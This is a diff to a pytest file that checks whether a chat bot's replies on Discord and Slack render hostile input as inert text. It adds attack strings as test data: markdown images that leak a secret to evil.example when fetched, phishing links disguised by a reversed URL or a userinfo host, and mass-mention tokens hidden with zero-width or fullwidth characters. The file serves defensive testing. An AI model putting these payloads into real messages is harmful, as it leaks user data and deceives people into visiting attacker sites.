@@ -11,6 +11,7 @@ import pytest_asyncio
 from discord.gateway import DiscordWebSocket
 
 from core.frames import END
+from sandbox.slack import Message as SlackMessage
 from tests.channels.benches import PLATFORMS, Talk, quick, sandbox_of, shows, talking
 
 pytestmark = pytest.mark.asyncio(loop_scope="module")
@@ -37,6 +38,15 @@ ATTACKS = {
     "a link in slack's own words": "<https://evil.example/login|https://bank.example>",
     "a command to be pressed": "</reset:{user}> <slackapp://x|press>",
     "a picture that tells who looks": "![x](https://evil.example/track.png?secret)",
+    "a picture by a reference": "![x][p] [link][p]\n\n[p]: https://evil.example/track.png?secret",
+    "a picture that is a link": "[![x](https://evil.example/a.png)](https://evil.example/?secret)",
+    "a link whose words turn round": "[\u202emoc.elpmaxe.knab//:sptth](https://evil.example/login)",
+    "a link with a host for a name": "[bank](https://bank.example@evil.example/login)",
+    "a link with a target in brackets": "[https://bank.example](<https://evil.example/login>)",
+    "a token with a joint in it": "@\u200beveryone <\u200b!channel> <@\u200b{user}>",
+    "a token of wide letters": "\uff20everyone \uff1c!channel\uff1e",
+    "what only looks like a token": "<id:customize> <t:0:R> <a:x:{user}> </stop:{user}>",
+    "a mail and a phone": "<mailto:x@evil.example|x@bank.example> <tel:1|call>",
 }
 
 
@@ -49,6 +59,13 @@ def said(asked: Any) -> str:
 
 
 answers = dict[str, str]()
+
+
+def is_quiet(reply: Any) -> bool:
+    """Whether the platform fetches nothing that is linked: who is linked would learn what the link says."""
+    if isinstance(reply, SlackMessage):
+        return (reply.unfurl_links, reply.unfurl_media) == (False, False)
+    return bool(reply.flags & discord.MessageFlags.suppress_embeds.flag)
 
 
 @pytest_asyncio.fixture(scope="module", loop_scope="module", params=PLATFORMS)
@@ -74,6 +91,7 @@ async def test_it_comes_out_as_text(talk: Talk, attack: str) -> None:
     await shows(talk, lambda found: [text for text in found if f"end {number}." in text])
     (reply,) = [message for message in talk.replies() if f"end {number}." in message.text]
     assert reply.pings == frozenset()
+    assert is_quiet(reply)
     sent = re.sub(r"```.*?(```|$)", "", str(reply.content).replace("\\n", "\n"), flags=re.DOTALL)  # code is only shown
     assert not re.search(TOKENS[talk.bot.channel.name], sent), sent
     if "link" in attack and "evil" in ATTACKS[attack]:
